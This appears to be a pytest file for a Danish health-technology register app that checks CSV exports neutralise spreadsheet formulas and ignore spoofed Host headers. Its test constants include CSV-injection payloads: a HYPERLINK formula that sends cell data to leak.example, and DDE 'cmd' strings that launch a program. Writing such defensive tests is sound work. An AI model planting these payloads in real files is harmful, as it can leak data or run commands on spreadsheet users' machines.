"""Every CSV the product writes is safe to open in a spreadsheet: text that a spreadsheet
would run as a formula is neutralised with a leading apostrophe, numbers stay numbers,
and absolute URLs come from BLAASTEMPEL_BASE_URL, never from the request's Host header."""

from __future__ import annotations

import ast
import csv
import io
import uuid
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from sqlalchemy import select

from app.catalogue.models import Solution
from app.core import clock
from app.settings import DEFAULT_BASE_URL, PROJECT_ROOT, Settings
from app.web.csv_export import csv_text
from tests.approvals.helpers import completed_assessment

MARK = "csvprobe" + uuid.uuid4().hex[:8]
# Payloads from OWASP's CSV injection page and public reports, one per trigger character.
VENDOR = f'=HYPERLINK("http://leak.example/?leak="&A1,"{MARK} klik")'
SOLUTION = f"+SUM(1+1)*cmd|' /C calc'!A0 {MARK}"
CONDITIONS = f"-2+3+cmd|' /C calc'!A0 {MARK}"
INDICATIONS = f"@SUM(1+1) {MARK}"
EVIL_HOST = "attacker.invalid"


@dataclass
class World:
    solution: str = ""
    register_number: str = ""


def _ok(response: Any) -> Any:
    assert response.status_code in (200, 201), f"{response.request.url}: {response.status_code} {response.text}"
    return response.json()


@pytest.fixture(scope="module")
def world(app: Litestar, api_tokens: dict[str, str]) -> World:
    """A registered solution whose vendor, name, conditions and indications are formulas,
    in operation in Rødovre, which also reports a negative indicator value."""
    w = World()
    admin = {"Authorization": f"Bearer {api_tokens['admin']}"}
    approver = {"Authorization": f"Bearer {api_tokens['approver']}"}
    with TestClient(app) as c, app.state.session_factory() as db:
        vendor = _ok(c.post("/api/vendors", headers=admin, json={"name": VENDOR, "country": "DK"}))
        sol = _ok(c.post("/api/solutions", headers=admin, json={
            "name": SOLUTION, "slug": f"csv-{MARK}", "vendor_id": vendor["id"],
            "short_description_da": "Kort", "purpose": "treatment", "treatment_areas": ["kol"],
            "target_users": "citizen", "origin": "private", "country": "DK", "regulatory_class": "ce_i",
            "regulation": "mdr", "published": True}))
        w.solution = sol["slug"]
        completed = completed_assessment(db, db.scalar(select(Solution).where(Solution.slug == w.solution)),
                                         days_ago=20)
        on = clock.today() - timedelta(days=10)
        _ok(c.post(f"/api/approvals/{w.solution}/events", headers=approver,
                   json={"event": "apply", "on": (on - timedelta(days=5)).isoformat()}))
        decision = _ok(c.post(f"/api/approvals/{w.solution}/events", headers=approver, json={
            "event": "approve_temporarily", "on": on.isoformat(), "reason": "lovende evidens",
            "conditions": CONDITIONS, "indications": INDICATIONS, "treatment_areas": ["kol"],
            "assessment_ids": [completed],
            "milestones": [{"title": "Første data", "due": (on + timedelta(days=90)).isoformat()}]}))
        w.register_number = decision["register_number"]
        _ok(c.post("/api/benchmark/adoption", headers=admin, json={
            "organisation": "municipality:175", "solution": w.solution, "status": "in_operation",
            "effective_from": (clock.today() - timedelta(days=30)).isoformat()}))
        _ok(c.post("/api/benchmark/indicator-values", headers=admin, json={
            "indicator": "kapacitet-pr-100k", "organisation": "municipality:175", "period": 2024, "value": -3}))
    return w


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_register_csv_neutralises_formulas(client: Any, world: World) -> None:
    response = client.get("/api/register", params={"format": "csv", "q": MARK})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    [row] = _rows(response.text)
    assert row["register_number"] == world.register_number
    assert row["vendor"] == "'" + VENDOR
    assert row["solution"] == "'" + SOLUTION
    assert row["conditions"] == "'" + CONDITIONS
    assert row["indications"] == "'" + INDICATIONS
    assert row["valid_from"][0].isdigit()  # plain text that is not a formula is left alone


def test_benchmark_csv_neutralises_text_and_keeps_negative_numbers(client: Any, world: World) -> None:
    solutions = _rows(client.get("/benchmark/organisations/municipality:175",
                                 params={"format": "csv", "table": "solutions"}).text)
    assert "'" + SOLUTION in [r["solution"] for r in solutions]
    indicators = _rows(client.get("/benchmark/organisations/municipality:175",
                                  params={"format": "csv", "table": "indicators"}).text)
    negative = [r for r in indicators if r["period"] == "2024" and r["value"].startswith(("-", "'"))]
    assert [r["value"] for r in negative] == ["-3.0"]  # a number, not text


def test_register_csv_urls_use_the_configured_base_url_not_the_host_header(client: Any, world: World) -> None:
    response = client.get("/api/register", params={"format": "csv", "q": MARK}, headers={"Host": EVIL_HOST})
    [row] = _rows(response.text)
    assert row["url"] == f"{DEFAULT_BASE_URL}/register/{world.register_number}"
    assert EVIL_HOST not in response.text


def test_calendar_feed_urls_use_the_configured_base_url(client: Any, auth: Any, world: World) -> None:
    feed = client.get("/approvals/calendar.ics", headers=auth("approver") | {"Host": EVIL_HOST})
    assert feed.status_code == 200
    assert f"{DEFAULT_BASE_URL}/approvals/solutions/{world.solution}" in feed.text.replace("\r\n ", "")
    assert EVIL_HOST not in feed.text


def test_base_url_comes_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "x" * 32)
    monkeypatch.setenv("BLAASTEMPEL_BASE_URL", "https://blaastempel.example.dk/")
    assert Settings.from_env().base_url == "https://blaastempel.example.dk"
    monkeypatch.delenv("BLAASTEMPEL_BASE_URL")
    assert Settings.from_env().base_url == DEFAULT_BASE_URL
    for bad in ("blaastempel.example.dk", "javascript:alert(1)", "https://x.dk/?a=1", "ftp://x.dk"):
        monkeypatch.setenv("BLAASTEMPEL_BASE_URL", bad)
        with pytest.raises(SystemExit, match="BLAASTEMPEL_BASE_URL"):
            Settings.from_env()


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"), ("-3", "'-3"), (-3, "-3"), (-2.5, "-2.5"), ("a=1", "a=1"), ("", ""), (None, ""),
    ("foo@example.dk", "foo@example.dk")])
def test_cells(value: Any, written: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_text(["x"], [[value]]))))[1:]
    assert row == [written]


def test_no_csv_is_written_outside_the_helper() -> None:
    """Every CSV export goes through app/web/csv_export.py (a new one cannot forget it)."""
    helper = PROJECT_ROOT / "app/web/csv_export.py"
    found = []
    for path in sorted((PROJECT_ROOT / "app").rglob("*.py")):
        if path == helper:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
                found.append(f"{path.relative_to(PROJECT_ROOT)}:{node.lineno} {node.attr}")
    assert not found, "write CSV with app.web.csv_export.csv_response: " + ", ".join(found)
